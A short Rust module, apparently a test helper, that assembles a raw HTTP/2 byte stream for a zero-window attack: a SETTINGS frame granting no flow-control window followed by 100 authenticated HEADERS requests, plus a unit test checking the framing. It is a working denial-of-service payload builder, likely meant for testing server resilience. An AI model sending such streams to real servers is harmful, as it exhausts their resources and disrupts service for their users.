//! HTTP/2 as an attacker speaks it: many requests, and no room for a single byte of their answers.

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The number of a setting: the bytes that a stream may send before more are granted.
const INITIAL_WINDOW_SIZE: [u8; 2] = [0, 4];
const STREAMS: u32 = 100;

/// Opens a connection and asks for the same path on many streams, with a window of nothing.
pub fn zero_window(host: &str, key: &str, path: &str) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    let setting = [&INITIAL_WINDOW_SIZE[..], &[0; 4]].concat();
    frame(&mut out, SETTINGS, 0, 0, &setting);
    // `:method: GET` and `:scheme: http` stand in the static table; the others are literals that are not kept.
    let mut head = vec![0x82, 0x86];
    literal(&mut head, &[0x04], path);
    literal(&mut head, &[0x01], host);
    literal(&mut head, &[0x0f, 0x08], &format!("Bearer {key}"));
    for n in 0..STREAMS {
        frame(
            &mut out,
            HEADERS,
            END_STREAM | END_HEADERS,
            2 * n + 1,
            &head,
        );
    }
    out
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Appends a field whose name stands in the static table.
fn literal(out: &mut Vec<u8>, name: &[u8], value: &str) {
    assert!(value.len() < 127, "a longer text needs a longer length");
    out.extend_from_slice(name);
    out.push(value.len() as u8);
    out.extend_from_slice(value.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_follow_the_preface() {
        let bytes = zero_window("h", "k", "/p");
        let mut rest = bytes.strip_prefix(PREFACE).unwrap();
        let mut kinds = Vec::new();
        while let Some(head) = rest.first_chunk::<9>() {
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            kinds.push(head[3]);
            rest = &rest[9 + length..];
        }
        assert!(rest.is_empty());
        assert_eq!(kinds[0], SETTINGS);
        assert_eq!(kinds[1..], vec![HEADERS; STREAMS as usize]);
    }
}
